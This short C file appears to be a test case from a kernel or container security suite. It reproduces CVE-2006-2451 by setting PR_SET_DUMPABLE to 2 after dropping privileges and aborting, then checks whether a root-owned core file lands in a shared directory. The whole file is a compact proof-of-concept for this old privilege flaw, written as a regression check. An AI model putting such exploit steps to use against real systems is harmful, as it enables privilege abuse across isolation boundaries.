// SPDX-License-Identifier: GPL-2.0-only
// CVE-2006-2451: a process that is dumpable for root only leaves a core, owned
// by root, where it works - on the host's side of a directory in common.
// Modes: guest bare
// (no kernel gives PR_SET_DUMPABLE 2 any more)
#include <signal.h>
#include <sys/prctl.h>
#include <sys/resource.h>

#include "attack.h"

int main(void)
{
	struct rlimit big = { RLIM_INFINITY, RLIM_INFINITY };
	struct stat st;
	pid_t pid;

	pid = fork();
	NEED(pid >= 0);
	if (!pid) {
		NEED(!chdir("/shared"));
		setrlimit(RLIMIT_CORE, &big);
		if (setresuid(1000, 1000, 1000) ||
		    prctl(PR_SET_DUMPABLE, 2))
			_exit(errno);
		abort();
	}
	NEED(waitpid(pid, NULL, 0) == pid);
	if (!lstat("/shared/core", &st)) {
		unlink("/shared/core");
		if (!st.st_uid)
			worked("a file of root");
	}
	errno = EINVAL;
	refused("PR_SET_DUMPABLE");
}
